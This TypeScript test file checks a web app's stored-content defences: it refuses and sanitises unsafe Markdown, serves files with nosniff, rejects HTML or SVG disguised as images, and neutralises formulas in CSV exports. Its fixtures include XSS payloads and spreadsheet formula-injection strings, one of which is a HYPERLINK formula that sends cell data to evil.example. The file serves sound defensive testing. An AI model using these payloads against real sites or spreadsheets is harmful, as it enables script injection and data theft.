import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRoleMatrix, createTestContext, type TestContext } from '../test/harness.ts';
import { api } from '../library/library.test-helpers.ts';
import { readRouteTable, fillPath } from './route-table.ts';
import { resolveParams } from './params.ts';
import { buildRecords, type Cast, type Records } from './world.ts';

/**
 * Stored content on its way back out: Markdown refused when unsafe and sanitised when rendered, files served with
 * their stored type and as downloads that a browser will not sniff, CSV exports that a spreadsheet will not run.
 */
let t: TestContext;
let cast: Cast;
let records: Records;

const UNSAFE_MARKDOWN = [
  '<script>alert(1)</script>',
  '[clic](javascript:alert(1))',
  '[clic](<java\tscript:alert(1)>)',
  '[clic](JaVaScRiPt:alert(1))',
  '<a href="javascript:alert(1)">x</a>',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '[clic](&#106;avascript:alert(1))',
];

/** Formula payloads a spreadsheet would run; each carries a marker so that its cell can be found in any export. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?x="&A1,"PIEGE")',
  '+PIEGE+1',
  '-2+PIEGE',
  '@SUM(PIEGE)',
  '\t=PIEGE',
  '\r=PIEGE',
];

function unsafeHtml(html: string): string[] {
  const found: string[] = [];
  if (/<script/i.test(html)) found.push('script element');
  if (/<iframe|<object|<embed/i.test(html)) found.push('embedded frame');
  if (/\son\w+\s*=/i.test(html)) found.push('event handler');
  if (/(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):/i.test(html)) found.push('dangerous address');
  return found;
}

describe('stored content', () => {
  beforeAll(async () => {
    t = await createTestContext();
    cast = await createRoleMatrix(t);
    records = await buildRecords(t, cast, 'public');
  }, 120_000);
  afterAll(() => t.close());

  it.each(UNSAFE_MARKDOWN)('refuses unsafe Markdown on write, naming the field: %s', async (markdown) => {
    const current = (await api(t, cast.owner, 'GET', `/projects/${records.projectId}`)).json() as {
      version: number;
    };
    const response = await api(t, cast.owner, 'PATCH', `/projects/${records.projectId}`, {
      description: markdown,
      version: current.version,
    });
    expect(response.statusCode).toBe(400);
    expect(Object.keys((response.json() as { error: { fields: object } }).error.fields)).toContain(
      'description',
    );
  });

  it('sanitises Markdown on render, even for content that reached the database another way (import, old data)', async () => {
    await t.ctx.db
      .updateTable('projects')
      .set({ description: UNSAFE_MARKDOWN.join('\n\n') })
      .where('id', '=', records.projectId)
      .execute();
    for (const who of [null, cast.owner]) {
      const project = (await api(t, who, 'GET', `/projects/${records.projectId}`)).json() as {
        descriptionHtml: string;
      };
      expect(project.descriptionHtml.length).toBeGreaterThan(0);
      expect(unsafeHtml(project.descriptionHtml)).toEqual([]);
    }
  });

  it('serves every stored file with its stored type, as a named download, with nosniff', async () => {
    const files = [
      { url: `/projects/${records.projectId}/images/${records.imageId}`, type: 'image/png' },
      { url: `/models/${records.modelId}/resources/${records.resourceId}`, type: 'application/pdf' },
    ];
    for (const file of files) {
      const response = await api(t, cast.owner, 'GET', file.url);
      expect(response.statusCode, file.url).toBe(200);
      expect(String(response.headers['content-type'])).toContain(file.type);
      expect(response.headers['x-content-type-options']).toBe('nosniff');
      expect(String(response.headers['content-disposition']), file.url).toMatch(
        /^(attachment|inline);\s*filename/,
      );
    }
  });

  it('refuses files whose bytes are not what they claim (HTML or SVG script as an image)', async () => {
    for (const [type, body] of [
      ['image/png', '<html><script>alert(1)</script></html>'],
      ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
    ] as const) {
      const before = await t.ctx.db
        .selectFrom('project_images')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirstOrThrow();
      const response = await t.app.inject({
        method: 'POST',
        url: `/api/v1/projects/${records.projectId}/images?alt=x`,
        headers: { cookie: cast.owner.cookie, 'content-type': type },
        payload: Buffer.from(body),
      });
      expect(response.statusCode).toBeGreaterThanOrEqual(400);
      expect(response.statusCode).toBeLessThan(500);
      const after = await t.ctx.db
        .selectFrom('project_images')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirstOrThrow();
      expect(Number(after.n)).toBe(Number(before.n));
    }
  });

  it('neutralises formulas in every CSV export of the route table', async () => {
    const [title, summary, itemTitle, displayName, sessionTitle, other] = FORMULAS;
    await t.ctx.db
      .updateTable('projects')
      .set({ title: title!, summary: summary! })
      .where('id', '=', records.projectId)
      .execute();
    await t.ctx.db
      .updateTable('plan_items')
      .set({ title: itemTitle! })
      .where('plan_id', '=', records.planId)
      .execute();
    await t.ctx.db
      .updateTable('users')
      .set({ display_name: displayName! })
      .where('id', '=', cast.editor.id)
      .execute();
    await t.ctx.db
      .updateTable('organisations')
      .set({ name: other! })
      .where('id', '=', cast.organisationId)
      .execute();
    await t.ctx.db
      .updateTable('training_sessions')
      .set({ title: sessionTitle! })
      .where('id', '=', records.sessionId)
      .execute();
    const csvRoutes = (await readRouteTable(t.app)).filter(
      (r) => r.method === 'GET' && /\.csv$/.test(r.path),
    );
    expect(csvRoutes.length).toBeGreaterThanOrEqual(4);
    const unsafe: string[] = [];
    let markedCells = 0;
    for (const route of csvRoutes) {
      const { values, missing } = resolveParams(route.path, route.pathParams, records, cast);
      if (missing.length) continue;
      const response = await api(t, cast.admin, 'GET', fillPath(route.path, values));
      if (response.statusCode !== 200) {
        unsafe.push(`${route.key} answered ${response.statusCode}`);
        continue;
      }
      const rows = parse(response.body, {
        bom: true,
        delimiter: [';', ','],
        relax_column_count: true,
        relax_quotes: true,
      }) as string[][];
      for (const cell of rows.flat()) {
        if (!cell.includes('PIEGE')) continue;
        markedCells++;
        if (/^[=+\-@\t\r]/.test(cell)) unsafe.push(`${route.key}: « ${cell} »`);
      }
    }
    expect(unsafe).toEqual([]);
    expect(markedCells).toBeGreaterThanOrEqual(4);
  });
});
